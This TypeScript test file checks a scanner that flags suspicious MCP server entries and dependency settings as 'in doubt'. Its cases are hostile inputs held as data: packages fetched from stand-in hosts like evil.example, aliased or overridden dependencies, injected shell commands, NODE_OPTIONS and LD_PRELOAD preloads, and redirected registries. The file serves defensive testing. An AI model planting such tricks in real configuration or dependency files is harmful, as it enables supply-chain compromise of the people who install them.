import { expect, test } from 'vitest'
import { readDependencies, readServer, serverFile } from './workspace.ts'

// Variants that install, start or call something else than the agent whose name they show, or may. None has a key, so
// that none is looked up; each has a reason. Valid entries are in action.test.ts.

const run = (line: string, more: object = {}) => {
  const [command = '', ...args] = line.split(' ')
  return { command, args, ...more }
}
const CALLED = 'https://good.example/mcp'

test.each<[string, unknown, RegExp]>([
  ['an alias', run('npx good@npm:evil'), /can install anything/],
  ['an alias with a version', run('npx -y good@npm:evil@1.0.0'), /can install anything/],
  ['a tarball', run('npx good@https://evil.example/good.tgz'), /can install anything/],
  ['a tarball alone', run('npx https://evil.example/good.tgz'), /can install anything/],
  ['a tarball of the repository', run('npx good.tgz'), /can install anything/],
  ['a tarball for a version', run('npx good@evil.tgz'), /can install anything/],
  ['a repository', run('npx good@git+https://evil.example/good.git'), /can install anything/],
  ['a repository of GitHub', run('npx good@evil/good'), /can install anything/],
  ['the same without a name', run('npx evil/good'), /can install anything/],
  ['a gist', run('npx good@gist:11081aaa281'), /can install anything/],
  ['a folder', run('npx good@file:./evil'), /can install anything/],
  ['the folder above', run('npx good@..'), /can install anything/],
  ['a link', run('npx good@link:evil'), /can install anything/],
  ['a workspace', run('pnpm dlx good@workspace:*'), /can install anything/],
  ['capitals', run('npx Good'), /capitals/],
  ['a look-alike letter', run('npx gооd'), /can install anything/],
  ['another registry', run('npx --registry=https://evil.example good'), /"--registry"/],
  ['another registry, apart', run('npx --registry https://evil.example good'), /"--registry"/],
  ['another registry behind the name', run('npm exec good --registry=https://evil.example'), /npm takes/],
  [
    'another registry of a scope',
    run('npx --@good:registry=https://evil.example @good/x'),
    /"--@good:registry"/,
  ],
  ['other settings', run('npx --userconfig ./evil.npmrc good'), /"--userconfig"/],
  ['another prefix', run('npx --prefix ./evil good'), /"--prefix"/],
  ['another folder', run('npx -C evil good'), /"-C"/],
  ['a program that is there', run('npx --no good'), /"--no"/],
  ['a program that is there, for pnpm', run('pnpm exec good'), /no way to run a package/],
  ['a program of another name', run('npx -p good evil'), /"evil" out of "good"/],
  ['two packages', run('npx -p good -p evil good'), /out of "good, evil"/],
  ['another package', run('npx --package=evil good'), /"good" out of "evil"/],
  ['a call', run('npx -c good'), /"-c"/],
  ['a shell', { command: 'sh', args: ['-c', 'npx good'] }, /no way to run a package/],
  [
    'a shell with a path',
    { command: '/bin/bash', args: ['-lc', 'npx good; evil'] },
    /no way to run a package/,
  ],
  ['two commands of Windows', { command: 'cmd', args: ['/c', 'npx', 'good', '&', 'evil'] }, /Windows shell/],
  ['a line of Windows', { command: 'cmd', args: ['/c', 'npx good & evil'] }, /Windows shell/],
  ['a variable of Windows', { command: 'cmd', args: ['/c', 'npx', '%NAME%'] }, /Windows shell/],
  ['a line', { command: 'npx good; evil' }, /line of a shell/],
  ['a line with a pipe', { command: 'npx good | evil' }, /line of a shell/],
  ['a space that no shell knows', { command: 'npx\u00a0good' }, /no way to run/],
  ['a space behind the program', { command: 'npx\u00a0', args: ['good'] }, /no way to run/],
  [
    'a prototype',
    JSON.parse('{"__proto__":{"command":"evil"},"command":"npx","args":["good"]}'),
    /__proto__/,
  ],
  ['env before it', run('env npm_config_registry=https://evil.example npx good'), /no way to run/],
  ['another npx', run('./npx good'), /program of its own/],
  ['another npx with a path', run('/workspaces/repository/npx good'), /program of its own/],
  ['another npx of the folder', run('$' + '{workspaceFolder}/npx good'), /program of its own/],
  ['another npx of the network', run('\\\\evil\\share\\npx.cmd good'), /program of its own/],
  ['another npx on Windows', run('C:\\Users\\Public\\npx.cmd good'), /program of its own/],
  ['a name that is filled in', run('npx $' + '{NAME}'), /filled in later/],
  ['a version that is filled in', run('npx good@$' + '{VERSION}'), /can install anything/],
  [
    'a registry in a variable',
    run('npx good', { env: { npm_config_registry: 'https://evil.example' } }),
    /variable/,
  ],
  [
    'the same in capitals',
    run('npx good', { env: { NPM_CONFIG_REGISTRY: 'https://evil.example' } }),
    /variable/,
  ],
  ['a path in a variable', run('npx good', { env: { PATH: './evil' } }), /variable "PATH"/],
  ['a file to load first', run('npx good', { env: { NODE_OPTIONS: '--require ./evil.js' } }), /NODE_OPTIONS/],
  ['a library to load first', run('npx good', { env: { LD_PRELOAD: './evil.so' } }), /LD_PRELOAD/],
  ['a file of variables', run('npx good', { envFile: '.env' }), /"envFile"/],
  ['another folder to run in', run('npx good', { cwd: './evil' }), /another folder/],
  ['a field that nobody knows', run('npx good', { windows: { command: 'evil' } }), /"windows"/],
  ['args that are no texts', { command: 'npx', args: ['good', { toString: 'evil' }] }, /args is no text/],
  ['args that are no list', { command: 'npx', args: 'good' }, /no list/],
  ['a command and an address', { ...run('npx good'), url: CALLED }, /several/],
  ['two addresses', { url: CALLED, httpUrl: 'https://evil.example' }, /several/],
  ['an address and a transport', { url: CALLED, transport: { url: 'https://evil.example' } }, /transport/],
  ['another index', run('uvx --index-url https://evil.example good'), /"--index-url"/],
  ['a further index', run('uvx --extra-index-url=https://evil.example good'), /"--extra-index-url"/],
  ['a default index', run('uvx --default-index https://evil.example good'), /"--default-index"/],
  ['a further package', run('uvx --with evil good'), /"--with"/],
  ['a program of another package', run('uvx --from evil good'), /"good" out of "evil"/],
  ['a program of another name, of uv', run('uvx --from good evil'), /"evil" out of "good"/],
  [
    'an address for a version',
    run('uvx --from good@https://evil.example/good.whl good'),
    /can install anything/,
  ],
  [
    'an address in a requirement',
    { command: 'uvx', args: ['good @ git+https://evil.example/x'] },
    /install anything/,
  ],
  ['a wheel', run('uvx good.whl'), /can install anything/],
  ['a repository, of uv', run('uvx git+https://evil.example/good'), /can install anything/],
  [
    'an index in a variable',
    run('uvx good', { env: { UV_INDEX_URL: 'https://evil.example' } }),
    /UV_INDEX_URL/,
  ],
  ['an index in a variable of pip', run('pipx run good', { env: { PIP_INDEX_URL: 'x' } }), /PIP_INDEX_URL/],
  ['arguments of pip', run('pipx run --pip-args=--index-url=https://evil.example good'), /"--pip-args"/],
  ['another spec', run('pipx run --spec evil good'), /"good" out of "evil"/],
  ['a digest', run(`docker run good/server@sha256:${'a'.repeat(64)}`), /digest/],
  ['another program of the image', run('docker run --entrypoint sh good/server -c evil'), /"--entrypoint"/],
  ['another program behind the image', run('docker run good/server sh -c evil'), /"sh" may be run/],
  ['a folder over the program', run('docker run -v ./evil:/app good/server'), /"-v"/],
  ['a variable for the image', run('docker run -e NODE_OPTIONS=--require=/evil good/server'), /NODE_OPTIONS/],
  ['a file of variables for the image', run('docker run --env-file .env good/server'), /"--env-file"/],
  ['an image of this machine', run('docker run --pull never good/server'), /--pull/],
  ['another engine', run('docker --context evil run good/server'), /no way to run/],
  [
    'another engine in a variable',
    run('docker run good/server', { env: { DOCKER_HOST: 'tcp://evil' } }),
    /DOCKER/,
  ],
  ['a short name of podman', run('podman run good/server'), /docker\.io/],
  ['a name before the host', { url: 'https://good.example@evil.example/mcp' }, /before the host/],
  ['a name and password', { url: 'https://good.example:443@evil.example/mcp' }, /before the host/],
  ['a backslash', { url: 'https://evil.example\\@good.example/mcp' }, /not a plain/],
  ['a tab in the host', { url: 'https://go\tod.example/mcp' }, /not a plain/],
  ['a host that is filled in', { url: 'https://$' + '{HOST}/mcp' }, /filled in later/],
  ['a parameter', { url: `${CALLED}?upstream=https://evil.example` }, /"upstream"/],
  ['another scheme', { url: 'file:///good.example/mcp' }, /not a plain/],
  ['another host in a header', { url: CALLED, headers: { host: 'evil.example' } }, /"host"/],
  [
    'another host in a header of proxies',
    { url: CALLED, headers: { 'X-Forwarded-Host': 'evil' } },
    /Forwarded/i,
  ],
  ['a bridge elsewhere', run(`npx mcp-remote --evil ${CALLED}`), /lead elsewhere/],
  ['a bridge with an alias', run(`npx mcp-remote@npm:evil ${CALLED}`), /can install anything/],
  ['a bridge with a header', run(`npx mcp-remote ${CALLED} --header host:evil`), /"host"/],
  ['a bridge with a second address', run(`npx mcp-remote ${CALLED} https://evil.example`), /lead elsewhere/],
  ['a bridge to a command', run('npx supergateway --stdio evil'), /no address/],
  ['nothing', {}, /neither a command/],
  ['a script', run('node server.js'), /no way to run a package/],
])('%s is in doubt', (_, entry, why) => {
  expect(readServer(entry)).toMatchObject({ name: 'good', key: null, doubt: expect.stringMatching(why) })
})

const LOCK = (entry: object) =>
  JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/good': entry } })
const DEPENDS = '{"dependencies":{"good":"^1.0.0"}}'

test.each<[string, Record<string, string>, RegExp]>([
  ['another registry', { '.npmrc': 'registry=https://evil.example/' }, /^\.npmrc has "registry"/],
  ['another registry of a scope', { '.npmrc': '@good:registry = https://evil.example' }, /@good:registry/],
  [
    'a look-alike of the registry',
    { '.npmrc': 'registry=https://registry.npmjs.org.evil.example/' },
    /"registry"/,
  ],
  [
    'another registry behind a lone return',
    { '.npmrc': 'fund=false\rregistry=https://evil.example' },
    /registry/,
  ],
  ['a helper for tokens', { '.npmrc': '//registry.npmjs.org/:tokenHelper=./evil' }, /tokenHelper/],
  ['a script shell', { '.npmrc': 'script-shell=./evil' }, /script-shell/],
  ['other settings of npm', { '.npmrc': 'userconfig=./evil' }, /userconfig/],
  ['settings of Yarn', { '.yarnrc.yml': 'npmRegistryServer: "https://evil.example"' }, /\.yarnrc\.yml/],
  ['settings of old Yarn', { '.yarnrc': 'registry "https://evil.example"' }, /\.yarnrc/],
  ['settings of Bun', { 'bunfig.toml': '[install]\nregistry = "https://evil.example"' }, /bunfig/],
  ['overrides of pnpm', { 'pnpm-workspace.yaml': 'overrides:\n  good: npm:evil' }, /pnpm-workspace/],
  ['a hook of pnpm', { '.pnpmfile.cjs': 'module.exports = {}' }, /decides/],
  ['an alias', { 'package.json': '{"dependencies":{"good":"npm:evil@1"}}' }, /npm:evil/],
  [
    'an address',
    { 'package.json': '{"dependencies":{"good":"https://evil.example/x.tgz"}}' },
    /evil\.example/,
  ],
  ['a repository', { 'package.json': '{"devDependencies":{"good":"github:evil/good"}}' }, /github:evil/],
  ['a file', { 'package.json': '{"dependencies":{"good":"file:evil"}}' }, /file:evil/],
  ['a workspace', { 'package.json': '{"dependencies":{"good":"workspace:*"}}' }, /workspace/],
  ['a link', { 'package.json': '{"dependencies":{"good":"link:../evil"}}' }, /link:/],
  [
    'two of one name',
    {
      'package.json': '{"dependencies":{"good":"1.0.0"},"optionalDependencies":{"good":"npm:evil"}}',
    },
    /npm:evil/,
  ],
  ['an override', { 'package.json': '{"overrides":{"good":"npm:evil"}}' }, /in its place/],
  ['an override below', { 'package.json': '{"overrides":{"other":{"good":"npm:evil"}}}' }, /in its place/],
  ['an override of itself', { 'package.json': '{"overrides":{"good":{".":"npm:evil"}}}' }, /in its place/],
  ['a resolution', { 'package.json': '{"resolutions":{"**/good":"npm:evil"}}' }, /in its place/],
  [
    'an override of pnpm',
    { 'package.json': '{"pnpm":{"overrides":{"a>good@1":"npm:evil"}}}' },
    /in its place/,
  ],
  ['a patch', { 'package.json': '{"pnpm":{"patchedDependencies":{"good@1.0.0":"evil.patch"}}}' }, /patches/],
  ['a key twice', { 'package.json': '{"overrides":{},"overrides":{"a":"1"}}' }, /twice/],
  ['a package of the name', { 'packages/x/package.json': '{"name":"good"}' }, /package of that name/],
  ['a lock', { 'package-lock.json': LOCK({ resolved: 'https://evil.example/good.tgz' }) }, /evil\.example/],
  [
    'a lock to another package',
    {
      'package-lock.json': LOCK({
        resolved: 'https://registry.npmjs.org/evil/-/evil-1.0.0.tgz',
      }),
    },
    /registry\.npmjs\.org\/evil/,
  ],
  [
    'a lock to a folder',
    { 'package-lock.json': LOCK({ resolved: 'packages/x', link: true }) },
    /packages\/x/,
  ],
  [
    'a lock of Yarn',
    { 'yarn.lock': 'good@^1.0.0:\n  version "1.0.0"\n  resolved "https://evil.example/x.tgz#1"' },
    /evil/,
  ],
  [
    'a lock of new Yarn',
    { 'yarn.lock': '"good@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "evil@npm:1.0.0"' },
    /evil/,
  ],
  [
    'a lock of pnpm',
    { 'pnpm-lock.yaml': 'packages:\n\n  good@1.0.0:\n    resolution: {tarball: https://evil.example/x}' },
    /evil/,
  ],
  ['a lock of Bun', { 'bun.lock': '{"packages":{"good":["evil@1.0.0","",{},"x"],}}' }, /evil/],
  [
    'a manager by address',
    { 'package.json': '{"packageManager":"yarn@https://evil.example/yarn.js"}' },
    /manager/,
  ],
  ['a file that is too large', { '.npmrc': ' '.repeat(2 ** 20 + 1) }, /not read/],
])('%s in the repository puts a package in doubt', (_, files, why) => {
  expect(readServer(run('npx good'), files).doubt).toMatch(why)
  const { dependencies } = readDependencies({ 'package.json': DEPENDS, ...files })
  const listed = dependencies.filter(({ file, name }) => file === 'package.json' && name === 'good')
  expect(listed.length > 0 && listed.every(({ doubt }) => doubt === null)).toBe(false)
})

test.each<[string, Record<string, string>]>([
  ['of its own', { 'package.json': '{"name":"x","bin":{"good":"evil.js"}}' }],
  [
    'of another package',
    { 'package-lock.json': JSON.stringify({ packages: { 'node_modules/evil': { bin: { good: 'x' } } } }) },
  ],
  ['that is installed', { 'node_modules/.bin/good': '' }],
])('a program %s is in the way of npx, unless it is given a version', (_, files) => {
  expect(readServer(run('npx good'), files).doubt).toMatch(/in its place|program of that name|from "evil"/)
  expect(readServer(run('npx good@1.0.0'), files)).toMatchObject({ key: 'package:npm/good', doubt: null })
})

test.each<[string, string, RegExp]>([
  ['an address', 'good @ https://evil.example/good.whl', /can install anything/],
  ['a repository', 'good@git+https://evil.example/x', /can install anything/],
  ['a repository by its fragment', 'git+https://evil.example/x#egg=good', /can install anything/],
  ['a folder', '-e ./good', /can install anything/],
  ['a wheel', './good-1.0-py3-none-any.whl', /can install anything/],
  ['another index', '--index-url https://evil.example\ngood', /--index-url/],
  ['another index, in short', 'good\n-i https://evil.example', /-i https/],
  ['a further index', '--extra-index-url=https://evil.example\ngood==1.0', /--extra-index-url/],
  ['an index behind an odd line end', 'good # \u2028--index-url https://evil.example', /--index-url/],
  ['links', '-f https://evil.example\ngood', /-f https/],
  ['a line that goes on', '--index-\\\nurl https://evil.example\ngood', /evil/],
  ['a file that is not there', '-r gone.txt\ngood', /gone\.txt/],
  ['an included index', '-r base.txt\ngood', /base\.txt has "--index-url/],
  ['two ways', 'good==1.0\ngood @ https://evil.example/x.whl', /can install anything/],
])('%s in requirements.txt is in doubt', (_, text, why) => {
  const files = { 'requirements.txt': text, 'base.txt': '--index-url https://evil.example' }
  const { dependencies } = readDependencies(files)
  expect(dependencies.length).toBeGreaterThan(0)
  for (const { key, doubt } of dependencies) {
    expect(key).toBeNull()
    expect(doubt).toMatch(why)
  }
})

test.each(['uv.toml', 'pyproject.toml', 'pip.conf'])(
  'an index in %s puts packages of PyPI in doubt',
  (file) => {
    const text =
      file === 'pyproject.toml'
        ? '[[tool.uv.index]]\nurl = "https://evil.example"'
        : 'index-url = "https://evil.example"'
    expect(readServer(run('uvx good'), { [file]: text }).doubt).toContain(file)
  },
)

const NPX = { command: 'npx', args: ['good'] }
const EVIL = { command: 'npx', args: ['good@npm:evil'] }

test.each<[string, Record<string, string>]>([
  [
    'twice in a list',
    { '.mcp.json': `{"mcpServers":{"good":${JSON.stringify(EVIL)},"good":${JSON.stringify(NPX)}}}` },
  ],
  [
    'in a list that is there twice',
    { '.mcp.json': `{"mcpServers":{},"mcpServers":{"good":${JSON.stringify(NPX)}}}` },
  ],
  [
    'with a field twice',
    { '.mcp.json': '{"mcpServers":{"good":{"command":"evil","command":"npx","args":["good"]}}}' },
  ],
  [
    'with a field twice, spelled otherwise',
    {
      '.mcp.json': '{"mcpServers":{"good":{"command":"npx","args":["evil"],"\\u0061rgs":["good"]}}}',
    },
  ],
  ['in two lists', { '.mcp.json': JSON.stringify({ servers: { good: EVIL }, mcpServers: { good: NPX } }) }],
  ['in two files', { '.mcp.json': serverFile(NPX), '.cursor/mcp.json': serverFile(EVIL) }],
  [
    'in two files, with another key',
    { '.mcp.json': serverFile(NPX), '.cursor/mcp.json': serverFile({ url: CALLED }) },
  ],
])('a server that is there %s is in doubt', (_, files) => {
  const { dependencies } = readDependencies(files)
  expect(dependencies.length).toBeGreaterThan(0)
  for (const { key, doubt } of dependencies) {
    expect(key).toBeNull()
    expect(doubt).toMatch(/twice|another server|anything/)
  }
})
